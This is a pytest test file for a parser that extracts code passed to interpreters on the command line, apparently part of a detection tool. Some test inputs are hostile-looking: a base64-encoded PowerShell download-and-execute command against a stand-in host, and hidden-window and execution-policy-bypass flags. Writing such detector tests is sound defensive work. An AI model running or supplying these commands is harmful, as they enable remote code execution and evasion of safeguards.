"""How command lines hand code to interpreters (sidecar.code.code_invocations)."""

from __future__ import annotations

import base64

import pytest

from sidecar.code import code_invocations


def _encoded(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode()


CASES = [
    # python
    ("python3", ["-c", "import os"], None, [("python", "import os")]),
    ("/usr/bin/python3.11", ["-c", "x"], None, [("python", "x")]),
    ("python", ["-W", "ignore", "-c", "x"], None, [("python", "x")]),
    ("python3", ["-X", "utf8", "-I", "-c", "x"], None, [("python", "x")]),
    ("python3", ["-Bc", "x"], None, [("python", "x")]),
    ("python3", ["-cprint(1)"], None, [("python", "print(1)")]),
    ("python3", ["-"], "import os", [("python", "import os")]),
    ("python3", ["-", "arg"], "code", [("python", "code")]),
    ("python3", [], "code", [("python", "code")]),
    ("python3", ["-u"], "code", [("python", "code")]),
    ("python3", ["x.py"], "data", []),
    ("python3", ["-m", "http.server"], None, []),
    ("python3", ["-W", "-c"], None, []),  # -c is the value of -W; no code follows
    ("pypy3", ["-c", "x"], None, [("python", "x")]),
    # javascript
    ("node", ["-e", "x"], None, [("javascript", "x")]),
    ("node", ["--eval", "x"], None, [("javascript", "x")]),
    ("node", ["--eval=x"], None, [("javascript", "x")]),
    ("node", ["-p", "1+1"], None, [("javascript", "1+1")]),
    ("node", ["--print", "x"], None, [("javascript", "x")]),
    ("node", ["-pe", "x"], None, [("javascript", "x")]),
    ("node", ["-r", "ts-node/register", "-e", "x"], None, [("javascript", "x")]),
    ("node", ["--require", "-e", "x"], None, []),  # -e is the module --require loads
    ("node", ["app.js", "-e", "x"], None, []),
    ("node", [], "code", [("javascript", "code")]),
    ("node", ["-"], "code", [("javascript", "code")]),
    ("nodejs", ["-e", "x"], None, [("javascript", "x")]),
    ("deno", ["eval", "x"], None, [("javascript", "x")]),
    ("deno", ["eval", "--ext", "ts", "x"], None, [("javascript", "x")]),
    ("deno", ["run", "-"], "code", [("javascript", "code")]),
    ("deno", ["run", "main.ts"], None, []),
    ("bun", ["-e", "x"], None, [("javascript", "x")]),
    ("bun", ["--eval", "x"], None, [("javascript", "x")]),
    ("bun", ["run", "build"], None, []),
    # ruby
    ("ruby", ["-e", "x"], None, [("ruby", "x")]),
    ("ruby", ["-e", "a", "-e", "b"], None, [("ruby", "a\nb")]),
    ("ruby", ["-rjson", "-e", "x"], None, [("ruby", "x")]),
    ("ruby", ["-I", "lib", "-e", "x"], None, [("ruby", "x")]),
    ("ruby", ["-ne", "x"], None, [("ruby", "x")]),
    ("ruby", ["script.rb"], None, []),
    ("ruby", [], "code", [("ruby", "code")]),
    # perl
    ("perl", ["-e", "x"], None, [("perl", "x")]),
    ("perl", ["-E", "say 1"], None, [("perl", "say 1")]),
    ("perl", ["-ne", "print"], None, [("perl", "print")]),
    ("perl", ["-lane", "print $F[0]"], None, [("perl", "print $F[0]")]),
    ("perl", ["-pi", "-e", "s/a/b/", "f"], None, [("perl", "s/a/b/")]),
    ("perl", ["-i.bak", "-pe", "s/a/b/", "f"], None, [("perl", "s/a/b/")]),
    ("perl", ["-0777", "-ne", "x"], None, [("perl", "x")]),
    ("perl", ["-MIO::Socket", "-e", "x"], None, [("perl", "x")]),
    ("perl", ["-I", "-e", "x"], None, []),  # -e is the directory -I adds; x is a script
    ("perl", ["-e", "a", "-e", "b"], None, [("perl", "a\nb")]),
    ("perl", ["script.pl"], None, []),
    ("perl", [], "code", [("perl", "code")]),
    # php
    ("php", ["-r", "echo 1;"], None, [("php", "echo 1;")]),
    ("php", ["-d", "display_errors=1", "-r", "x"], None, [("php", "x")]),
    ("php", ["-c", "-r", "x"], None, []),  # -r is the value of -c; then x is a script
    ("php", ["-S", "localhost:8000"], None, []),
    ("php", ["artisan", "migrate"], None, []),
    ("php", [], "<?php echo 1;", [("php", "<?php echo 1;")]),
    ("php8.2", ["-r", "x"], None, [("php", "x")]),
    # powershell
    ("pwsh", ["-Command", "Get-Process"], None, [("powershell", "Get-Process")]),
    (
        "pwsh",
        ["-c", "Remove-Item", "-Recurse", "x"],
        None,
        [("powershell", "Remove-Item -Recurse x")],
    ),
    ("pwsh", ["-NoProfile", "-NonInteractive", "-Command", "x"], None, [("powershell", "x")]),
    ("powershell", ["-nop", "-w", "hidden", "-c", "x"], None, [("powershell", "x")]),
    (
        "powershell.exe",
        ["-ExecutionPolicy", "Bypass", "-Command", "x"],
        None,
        [("powershell", "x")],
    ),
    ("powershell", ["-ep", "bypass", "-c", "x"], None, [("powershell", "x")]),
    (
        "powershell",
        ["-EncodedCommand", _encoded("iex (iwr http://x.example/a)")],
        None,
        [("powershell", "iex (iwr http://x.example/a)")],
    ),
    ("pwsh", ["-enc", _encoded("whoami")], None, [("powershell", "whoami")]),
    ("pwsh", ["-e", _encoded("whoami")], None, [("powershell", "whoami")]),
    ("pwsh", ["-ec", _encoded("whoami")], None, [("powershell", "whoami")]),
    ("pwsh", ["/c", "x"], None, [("powershell", "x")]),
    ("pwsh", ["-File", "build.ps1"], None, []),
    ("pwsh", ["build.ps1"], None, []),
    ("powershell", ["Get-ChildItem"], None, [("powershell", "Get-ChildItem")]),
    ("pwsh", ["-"], "code", [("powershell", "code")]),
    ("pwsh", ["-Command", "-"], "code", [("powershell", "code")]),
    ("pwsh", [], "code", [("powershell", "code")]),
    # standard input named as the program file
    ("python3", ["/dev/stdin"], "code", [("python", "code")]),
    ("node", ["/dev/fd/0"], "code", [("javascript", "code")]),
    ("ruby", ["/proc/self/fd/0"], "code", [("ruby", "code")]),
    # not interpreters
    ("bash", ["-c", "x"], None, []),
    ("ls", ["-la"], None, []),
    ("pythonista", ["-c", "x"], None, []),
]


@pytest.mark.parametrize(("program", "args", "stdin", "expected"), CASES)
def test_code_handed_to_interpreters(
    program: str, args: list[str], stdin: str | None, expected: list[tuple[str, str]]
) -> None:
    assert code_invocations(program, args, stdin) == expected


def test_undecodable_encoded_command_is_passed_on() -> None:
    found = code_invocations("pwsh", ["-enc", "not base64!"])
    assert found and found[0][0] == "powershell"
